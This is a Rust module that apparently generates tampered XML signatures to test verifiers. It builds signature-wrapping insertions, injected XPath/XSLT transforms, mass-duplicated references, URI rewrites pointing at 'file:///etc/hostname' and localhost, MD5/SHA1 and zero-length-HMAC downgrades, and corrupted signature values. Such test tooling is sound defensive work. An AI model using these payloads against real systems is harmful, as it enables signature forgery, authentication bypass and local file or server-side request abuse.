//! Attacks on what stands in a signature: references, transforms, algorithms, values, hints.

use super::ground::Ground;
use super::map::{DSIG, Edit, attribute};
use super::tricks::with_and_without;

/// References of one signature that are tampered with.
const MAX_REFERENCES: usize = 2;
/// Copies of a reference: more than any policy allows.
const MANY: usize = 100;
/// Places in one signature where something is put.
const MAX_PLACES: usize = 12;

/// The places between and in the elements of the signature.
pub(super) fn in_signature(ground: &Ground<'_>, what: &str) -> Vec<Vec<u8>> {
    let map = ground.map;
    let mut made = Vec::new();
    let child = |local| map.children(ground.signature, local).next();
    let Some(signed_info) = child("SignedInfo") else { return made };
    let inside = map.within(signed_info).filter(|n| map.elements[*n].roomy);
    let mut places: Vec<usize> =
        inside.flat_map(|n| [map.elements[n].inner.start, map.elements[n].inner.end]).collect();
    let key_info = child("KeyInfo").into_iter().flat_map(|n| map.within(n));
    let others = child("SignatureValue").into_iter().chain(key_info);
    places.extend(others.filter(|n| map.elements[*n].roomy).map(|n| {
        let inner = &map.elements[n].inner;
        inner.start + inner.len() / 2
    }));
    places.dedup();
    let step = places.len().div_ceil(MAX_PLACES).max(1);
    for place in places.into_iter().step_by(step) {
        // In the middle of a tag it would not be a comment.
        if map.elements.iter().any(|e| {
            let tag = e.whole.start..if e.roomy { e.inner.start } else { e.whole.end };
            tag.start < place && place < tag.end || e.inner.end < place && place < e.whole.end
        }) {
            continue;
        }
        made.extend(with_and_without(ground, vec![Edit::insert(place, what)]));
    }
    made
}

pub(super) fn key_info(ground: &Ground<'_>) -> Vec<Vec<u8>> {
    let Some(own) = ground.map.children(ground.signature, "KeyInfo").next() else {
        return Vec::new();
    };
    let whole = &ground.map.elements[own].whole;
    let mut edits = vec![vec![Edit::remove(whole)]];
    if let Some(other) = ground.donor.and_then(|donor| donor.key_info.clone()) {
        edits.push(vec![Edit::replace(whole, other.clone())]);
        edits.push(vec![Edit::insert(whole.start, other)]);
    }
    edits.into_iter().flat_map(|edits| with_and_without(ground, edits)).collect()
}

/// The first references of the signature.
fn own_references(ground: &Ground<'_>) -> Vec<usize> {
    let signed_info = ground.map.children(ground.signature, "SignedInfo").next();
    let all = signed_info.into_iter().flat_map(|n| ground.map.children(n, "Reference"));
    all.take(MAX_REFERENCES).collect()
}

pub(super) fn transforms(ground: &Ground<'_>) -> Vec<Vec<u8>> {
    let more = [
        "<Transform xmlns=\"DSIG\" Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><XPath>\
         ancestor-or-self::*[local-name()='Extension']</XPath></Transform>",
        "<Transform xmlns=\"DSIG\" Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><XPath \
         xmlns:d=\"DSIG\">not(ancestor-or-self::d:Signature)</XPath></Transform>",
        "<Transform xmlns=\"DSIG\" Algorithm=\"http://www.w3.org/2002/06/xmldsig-filter2\"><XPath \
         xmlns=\"http://www.w3.org/2002/06/xmldsig-filter2\" Filter=\"intersect\">//*[1]</XPath>\
         </Transform>",
        "<Transform xmlns=\"DSIG\" Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"/>",
        "<Transform xmlns=\"DSIG\" Algorithm=\"http://www.w3.org/2000/09/xmldsig#base64\"/>",
        "<Transform xmlns=\"DSIG\" Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/>",
        "<Transform xmlns=\"DSIG\" Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>",
    ];
    let map = ground.map;
    let mut made = Vec::new();
    for reference in own_references(ground) {
        let own = map.children(reference, "Transforms").next();
        for more in more {
            let more = more.replace("DSIG", DSIG);
            let edits = match own {
                Some(n) => {
                    let inner = &map.elements[n].inner;
                    vec![Edit::insert(inner.start, more.clone()), Edit::insert(inner.end, more)]
                }
                None => {
                    let whole = format!("<Transforms xmlns=\"{DSIG}\">{more}</Transforms>");
                    vec![Edit::insert(map.elements[reference].inner.start, whole)]
                }
            };
            for edit in edits {
                made.extend(with_and_without(ground, vec![edit]));
            }
        }
    }
    made
}

pub(super) fn references(ground: &Ground<'_>) -> Vec<Vec<u8>> {
    let map = ground.map;
    let mut made = Vec::new();
    for reference in own_references(ground) {
        let whole = &map.elements[reference].whole;
        let copy = ground.document[whole.clone()].to_vec();
        made.extend(with_and_without(ground, vec![Edit::remove(whole)]));
        made.extend(with_and_without(ground, vec![Edit::insert(whole.end, copy.clone())]));
        if made.len() == 4 {
            let many = Edit::insert(whole.end, copy.repeat(MANY));
            made.extend(ground.with(vec![many, ground.forgery()]));
        }
    }
    made
}

pub(super) fn uris(ground: &Ground<'_>) -> Vec<Vec<u8>> {
    let map = ground.map;
    let mut made = Vec::new();
    for reference in own_references(ground) {
        let tag = &map.elements[reference].tag;
        let Some(own) = tag.attributes.iter().find(|a| a.local == "URI") else { continue };
        let Some((whole, value)) = attribute(ground.document, own) else { continue };
        made.extend(with_and_without(ground, vec![Edit::remove(&whole)]));
        let id = own.value.trim_start_matches('#');
        let first = id.bytes().next().unwrap_or(b'a');
        for uri in [
            String::new(),
            format!("#{id} "),
            format!(" #{id}"),
            format!("##{id}"),
            id.to_owned(),
            "#".to_owned(),
            "#xpointer(/)".to_owned(),
            format!("#xpointer(id('{id}'))"),
            "#xpointer(//*)".to_owned(),
            format!("#%{first:02x}{}", id.get(1..).unwrap_or_default()),
            "file:///etc/hostname".to_owned(),
            "http://localhost/x".to_owned(),
        ] {
            if uri != own.value {
                made.extend(with_and_without(ground, vec![Edit::replace(&value, uri.clone())]));
            }
        }
    }
    made
}

pub(super) fn downgrades(ground: &Ground<'_>) -> Vec<Vec<u8>> {
    let map = ground.map;
    let Some(signed_info) = map.children(ground.signature, "SignedInfo").next() else {
        return Vec::new();
    };
    let mut made = Vec::new();
    for n in map.within(signed_info) {
        let tag = &map.elements[n].tag;
        let others: &[&str] = match tag.local.as_str() {
            "SignatureMethod" => &[
                "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
                "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
                "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
                "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1",
                "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
                "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
                "",
            ],
            "DigestMethod" => &[
                "http://www.w3.org/2000/09/xmldsig#sha1",
                "http://www.w3.org/2001/04/xmldsig-more#md5",
                "http://www.w3.org/2001/04/xmlenc#sha512",
            ],
            _ => continue,
        };
        let Some(own) = tag.attributes.iter().find(|a| a.local == "Algorithm") else { continue };
        let Some((_, value)) = attribute(ground.document, own) else { continue };
        for other in others.iter().filter(|other| **other != own.value) {
            made.extend(with_and_without(ground, vec![Edit::replace(&value, *other)]));
        }
        if tag.local == "SignatureMethod" && map.elements[n].roomy {
            let inner = map.elements[n].inner.start;
            let length = format!("<HMACOutputLength xmlns=\"{DSIG}\">0</HMACOutputLength>");
            let hmac = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
            let edits = vec![Edit::insert(inner, length), Edit::replace(&value, hmac)];
            made.extend(with_and_without(ground, edits));
        }
    }
    made
}

pub(super) fn values(ground: &Ground<'_>) -> Vec<Vec<u8>> {
    let Some(value) = ground.map.children(ground.signature, "SignatureValue").next() else {
        return Vec::new();
    };
    let inner = &ground.map.elements[value].inner;
    let half = inner.start..inner.start + inner.len() / 2;
    [
        Edit::remove(inner),
        Edit::remove(&half),
        Edit::replace(inner, "AAAA"),
        Edit::replace(inner, "="),
    ]
    .into_iter()
    .flat_map(|edit| with_and_without(ground, vec![edit]))
    .collect()
}
